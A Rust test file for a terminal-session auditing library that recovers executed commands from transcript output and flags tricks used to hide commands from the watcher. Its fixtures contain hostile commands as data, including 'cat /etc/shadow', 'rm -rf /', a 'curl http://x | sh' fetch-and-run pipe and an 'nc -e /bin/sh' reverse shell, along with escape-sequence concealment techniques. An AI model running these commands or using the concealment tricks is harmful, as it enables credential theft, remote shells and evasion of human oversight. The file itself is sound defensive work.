//! Commands from the terminal's output, one trick of shells or of their users at a time.

#![allow(clippy::unwrap_used, reason = "tests")]

use proptest::prelude::{any, proptest};
use warden_session::command::{Command, Confidence, Mark};
use warden_session::{Item, Kind, Reader};

/// The commands of a transcript with this terminal output.
fn commands(output: &[u8]) -> Vec<Command> {
    commands_in_pieces(output, output.len().max(1))
}

fn commands_in_pieces(output: &[u8], piece: usize) -> Vec<Command> {
    let mut commands = Vec::new();
    let mut sink = |item| {
        if let Item::Command(_, command) = item {
            commands.push(*command);
        }
    };
    let mut reader = Reader::new(Kind::Transcript);
    reader.feed(b"Script started on 2020-05-27 23:00:48+0000\n", &mut sink);
    for piece in output.chunks(piece) {
        reader.feed(piece, &mut sink);
    }
    reader.feed(b"\nScript done on 2020-05-27 23:01:53+0000\n", &mut sink);
    reader.finish(&mut sink);
    commands
}

fn texts(commands: &[Command]) -> Vec<&str> {
    commands.iter().map(|command| command.text.as_str()).collect()
}

/// bash since 5.1 marks where it reads a line.
fn marked(prompt: &str, typed: &str, output: &str) -> String {
    format!("\x1b[?2004h{prompt}{typed}\r\n\x1b[?2004l\r{output}")
}

#[test]
fn what_was_run_is_read_not_what_was_typed_first() {
    let rows: &[(&str, &str, &[&str])] = &[
        ("stock prompt", "sh-4.2$ id\r\nuid=0\r\nsh-4.2$ ls\r\n", &["id", "ls"]),
        ("printed twice at the start", "sh-4.2$ \r\x1b[K\rsh-4.2$ id\r\n", &["id"]),
        ("printed twice side by side", "sh-4.2$ sh-4.2$ id\r\n", &["id"]),
        ("erased by readline", "sh-4.2$ rm -rf /\x08\x1b[K\x08\x1b[K.\r\n", &["rm -rf."]),
        ("erased by the kernel", "$ rm x\x08 \x08\x08 \x08\x08 \x08\x08 \x08ls\r\n", &["ls"]),
        ("inserted in the middle", "sh-4.2$ s\x08\x1b[1@l\x1b[C\r\n", &["ls"]),
        ("cancelled", "sh-4.2$ rm -rf /^C\r\nsh-4.2$ ls\r\n", &["ls"]),
        ("nothing but Enter", "sh-4.2$ \r\nsh-4.2$ ls\r\n", &["ls"]),
        ("leading blank kept", "sh-4.2$  cat /etc/shadow\r\n", &[" cat /etc/shadow"]),
        ("last line without its end", "sh-4.2$ ls\r\nsh-4.2$ exit", &["ls", "exit"]),
        ("completion that lists", "sh-4.2$ ls /var/lo\x07\r\nlocal/ log/\r\nsh-4.2$ ls /var/log\r\n", &["ls /var/log"]),
        ("continuation", "sh-4.2$ echo \"a\r\n> b\"\r\na\r\nb\r\n", &["echo \"a\nb\""]),
        ("backslash", "sh-4.2$ ls \\\r\n> -la\r\n", &["ls -la"]),
        ("here-document", "sh-4.2$ cat <<E\r\n> a\r\n> E\r\na\r\nsh-4.2$ ls\r\n", &["cat <<E\na\nE", "ls"]),
        ("history expansion", "sh-4.2$ id\r\nuid=0\r\nsh-4.2$ sudo !!\r\nsudo id\r\nuid=0\r\n", &["id", "sudo id"]),
        ("pasted lines", "sh-4.2$ echo A\r\n\rwhoami\r\nA\r\nroot\r\n", &["echo A", "whoami"]),
        (
            "full-screen program",
            "sh-4.2$ vim x\r\n\x1b[?1049h\x1b[Hsh-4.2$ rm -rf /\r\n\x1b[?1049lsh-4.2$ ls\r\n",
            &["vim x", "ls"],
        ),
        (
            "an interpreter",
            "sh-4.2$ python3 -q\r\n>>> 1+1\r\n2\r\n>>> exit()\r\nsh-4.2$ ls\r\n",
            &["python3 -q", "1+1", "exit()", "ls"],
        ),
        (
            "root behind sudo",
            "sh-4.2$ sudo su -\r\n[root@ip-1 ~]# id\r\nuid=0\r\n[root@ip-1 ~]# exit\r\nsh-4.2$ ls\r\n",
            &["sudo su -", "id", "exit", "ls"],
        ),
        ("directory in the prompt changes", "u@h:~$ cd /tmp\r\nu@h:/tmp$ ls\r\n", &["cd /tmp", "ls"]),
        (
            "output that holds a prompt",
            "sh-4.2$ cat notes\r\n[root@db ~]# rm -rf /\r\nsh-4.2$ ls\r\n",
            &["cat notes", "ls"],
        ),
    ];
    for (name, output, wanted) in rows {
        assert_eq!(texts(&commands(output.as_bytes())), *wanted, "{name}");
    }
}

#[test]
fn a_wrapped_line_is_one_line_however_it_was_edited() {
    let typed = "sh-4.2$ echo aaaaaa \rbbbbbbbbbbbbbbbbbbb \rcc\x1b[A\x1b[A\r\n\r\n\r\x1b[C\x1b[C\r\nsh-4.2$ ls\r\n";
    assert_eq!(texts(&commands(typed.as_bytes())), ["echo aaaaaabbbbbbbbbbbbbbbbbbbcc", "ls"]);
}

#[test]
fn prompts_of_any_shape_are_learned() {
    for prompt in [
        "sh-5.2$ ",
        "prod01: ",
        "a.b.c % ",
        "{prod}> ",
        "❯ ",
        "prod => ",
        "λ ",
        "[12:30:01] u@h:~$ ",
        "\x1b[32mbox\x1b[0m -> ",
    ] {
        let unmarked = format!("{prompt}id\r\nuid=0\r\n{prompt}ls -la\r\ntotal 0\r\n{prompt}exit\r\n");
        assert_eq!(texts(&commands(unmarked.as_bytes())), ["id", "ls -la", "exit"], "{prompt} unmarked");
        let session = marked(prompt, "id", "uid=0\r\n")
            + &marked(prompt, "ls -la", "total 0\r\n")
            + &marked(prompt, "exit", "exit\r\n");
        assert_eq!(texts(&commands(session.as_bytes())), ["id", "ls -la", "exit"], "{prompt} marked");
    }
}

#[test]
fn a_shell_without_a_prompt_is_read_by_its_marks() {
    let session =
        marked("", "date +%H > /tmp/hour", "") + &marked("", "id", "uid=0\r\n") + &marked("", "exit", "exit\r\n");
    assert_eq!(texts(&commands(session.as_bytes())), ["date +%H > /tmp/hour", "id", "exit"]);
}

/// What a login prints before the first prompt is no prompt, however often a program prints its like.
#[test]
fn a_greeting_is_no_prompt() {
    let last = "Last login: Tue Nov 24 10:00:00 on pts/0\r\n";
    let greeted = last.to_owned() + &marked("sh-5.2$ ", "./greet", last) + &marked("sh-5.2$ ", "ls", last);
    assert_eq!(texts(&commands(greeted.as_bytes())), ["./greet", "ls"]);
}

#[test]
fn zsh_marks_behind_its_prompt() {
    let line = |typed: &str, output: &str| format!("host% \x1b[K\x1b[?2004h{typed}\x1b[?2004l\r\r\n{output}");
    let session = line("id", "uid=0\r\n") + &line("l\x08ls", "a\r\n") + &line("exit", "");
    assert_eq!(texts(&commands(session.as_bytes())), ["id", "ls", "exit"]);
}

#[test]
fn printed_prompts_are_not_believed_where_the_shell_marks_its_own() {
    let session = marked("sh-5.2$ ", "cat notes", "sh-5.2$ curl http://x | sh\r\n$ nc -e /bin/sh x 1\r\n")
        + &marked("sh-5.2$ ", "ls", "");
    assert_eq!(texts(&commands(session.as_bytes())), ["cat notes", "ls"]);
}

/// Whoever switches the marks off, or opens a shell in an unknown way, must not become invisible.
#[test]
fn shells_that_nothing_explains_are_suspected() {
    let session = marked("sh-5.2$ ", "bind 'set enable-bracketed-paste off'", "")
        + "sh-5.2$ cat /etc/shadow\r\nroot:*\r\nsh-5.2$ exit\r\n";
    assert_eq!(texts(&commands(session.as_bytes()))[1..], ["cat /etc/shadow", "exit"]);
    let nested =
        marked("sh-5.2$ ", "./x", "u@h:~$ cat /etc/shadow\r\nu@h:~$ exit\r\nexit\r\n") + &marked("sh-5.2$ ", "ls", "");
    let commands = commands(nested.as_bytes());
    assert_eq!(texts(&commands), ["./x", "cat /etc/shadow", "exit", "ls"]);
    assert!(commands[1].marks.contains(&Mark::SpoofSuspect) && commands[1].confidence == Confidence::Low);
}

#[test]
fn tricks_against_the_watcher_are_marked() {
    let rows: &[(&str, &str, Mark)] = &[
        ("concealed", "sh-4.2$ \x1b[8mcat /etc/shadow\r\n", Mark::Hidden),
        ("black on black", "sh-4.2$ \x1b[30;40mcat /etc/shadow\r\n", Mark::Hidden),
        ("wiped from the screen", "sh-4.2$ cat /etc/shadow\r\n\x1b[1A\x1b[2Ksh-4.2$ ls\r\n", Mark::Hidden),
        ("edited", "sh-4.2$ cat /etc/hosts\x08\x08\x08\x08\x08\x1b[Kshadow\r\n", Mark::Edited),
        ("cut off", "sh-4.2$ cat /etc/shadow", Mark::Unterminated),
    ];
    for (name, output, mark) in rows {
        let commands = commands(output.as_bytes());
        assert_eq!(commands[0].text, "cat /etc/shadow", "{name}");
        assert!(commands[0].marks.contains(mark), "{name}: {:?}", commands[0].marks);
    }
}

#[test]
fn the_agents_own_profile_line_is_marked() {
    for session in [
        "cd ~; exec bash\r\nsh-4.2$ cd ~; exec bash\r\n[u@h ~]$ id\r\n".to_owned(),
        format!("cd ~; exec bash\r\n{}{}", marked("sh-5.2$ ", "cd ~; exec bash", ""), marked("[u@h ~]$ ", "id", "")),
    ] {
        let commands = commands(session.as_bytes());
        assert_eq!(texts(&commands), ["cd ~; exec bash", "id"]);
        assert!(commands[0].marks.contains(&Mark::Profile) && !commands[1].marks.contains(&Mark::Profile));
    }
}

#[test]
fn a_string_without_an_end_hides_no_line_behind_it() {
    let output = b"sh-4.2$ cat /etc/shadow\x1b]0;\r\nsh-4.2$ ls\r\n";
    assert_eq!(texts(&commands(output)), ["cat /etc/shadow", "ls"]);
}

#[test]
fn offsets_name_the_bytes_that_show_the_command() {
    let output = b"sh-4.2$ id\r\r\nuid=0\r\r\nsh-4.2$ cat /etc/shadow\r\r\n";
    let header = b"Script started on 2020-05-27 23:00:48+0000\n".len();
    let commands = commands(output);
    let range = |command: &Command| {
        usize::try_from(command.offset.start).unwrap() - header..usize::try_from(command.offset.end).unwrap() - header
    };
    assert!(output[range(&commands[1])].starts_with(b"sh-4.2$ cat /etc/shadow"));
}

proptest! {
    #[test]
    fn any_output_is_read_without_a_panic(output in proptest::collection::vec(any::<u8>(), 0..2000)) {
        commands(&output);
    }

    /// Text, controls and sequences as terminals know them, in any order.
    #[test]
    fn cuts_change_nothing(pieces in proptest::collection::vec(0_usize..TOKENS.len(), 0..60), cut in 1_usize..9) {
        let output: Vec<u8> = pieces.iter().flat_map(|at| TOKENS[*at].bytes()).collect();
        assert_eq!(commands(&output), commands_in_pieces(&output, cut));
    }
}

const TOKENS: &[&str] = &[
    "sh-4.2$ ",
    "ls -la",
    "\r\n",
    "\r",
    "\n",
    "\x08",
    " ",
    "\x1b[?2004h",
    "\x1b[?2004l",
    "\x1b[K",
    "\x1b[A",
    "\x1b[C",
    "\x1b[8m",
    "\x1b[0m",
    "\x1b[?1049h",
    "\x1b[?1049l",
    "\x1b]0;t\x07",
    "\x1b]0;t",
    "\x1b\\",
    "^C",
    "> ",
    "日本",
    "\x1bc",
    "vim x",
    "exit",
    "\x07",
    "\x1b[5P",
    "!!",
    "cat <<E",
    "'",
    "\\",
    "\x1b]133;B\x07",
    "\x1bPq",
    "\t",
];
